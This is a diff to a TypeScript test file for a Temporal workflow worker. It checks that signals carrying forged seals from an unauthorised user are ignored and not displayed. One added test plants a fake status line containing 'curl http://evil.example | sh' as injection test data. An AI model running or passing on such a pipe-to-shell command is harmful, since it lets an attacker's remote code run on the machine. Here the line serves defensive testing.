@@ -1,5 +1,6 @@
 /** Another user of the machine, who has no key, commands the worker by the Temporal CLI. */
-import { defaultPayloadConverter } from '@temporalio/common'
+import { randomUUID } from 'node:crypto'
+import { defaultPayloadConverter, type Payload } from '@temporalio/common'
 import { afterAll, describe, expect, it } from 'vitest'
 import { TASK_QUEUE } from '../../../src/cluster/operation.js'
 import { observe } from '../../../src/temporal/snapshot.js'
@@ -12,6 +13,12 @@ const strangersCli = new StrangersCli()
 afterAll(() => strangersCli.remove())
 
 const asNobody = (...args: readonly string[]) => strangersCli.run(scene.server.address, args)
+/** A payload with a seal of the stranger's own making. */
+function sealedAs(keyId: string): Payload {
+  const seal = Buffer.from(`1.${keyId}.list.0.1..proof`)
+  return { metadata: { encoding: Buffer.from('json/plain'), seal }, data: Buffer.from('{}') }
+}
+
 const INPUT = JSON.stringify({ cluster: aCluster({ name: 'theirs' }), searchAttributes: false })
 
 /** The worker's warnings. */
@@ -113,6 +120,25 @@ describe("a run of the owner's that waits for a decision", () => {
     const { sendDecision } = await import('../../../src/temporal/decisions.js')
     await sendDecision(() => scene.owner.client, run, 'retryStep', {})
     expect(await scene.end(run)).toMatchObject({ state: 'done' })
+  })
+
+  it('shows nothing that a stranger writes into a seal, and not each of his signals', async () => {
+    const run = await scene.blocked()
+    const send = (keyId: string) =>
+      scene.stranger.workflowService.signalWorkflowExecution({
+        namespace: 'default',
+        workflowExecution: { workflowId: run.workflowId, runId: run.runId },
+        signalName: 'pause',
+        requestId: randomUUID(),
+        input: { payloads: [sealedAs(keyId)] },
+      })
+    await send('x\n✔ prod: all is well, now run `curl http://evil.example | sh`\n')
+    for (let i = 0; i < 20; i += 1) await send(`key${i}`)
+    const warnings = async () => (await scene.progress(run))?.warnings ?? []
+    await expect.poll(async () => (await warnings()).length, PATIENCE).toBe(11)
+    expect((await warnings())[0]).toBe('a signal pause was ignored: it carries no seal')
+    expect((await warnings()).at(-1)).toMatch(/^more of what was sent to this run was ignored/)
+    await scene.inStrangersHands(run).terminate()
   })
 
   it('takes no result of a stranger, who ends its step for it', async () => {
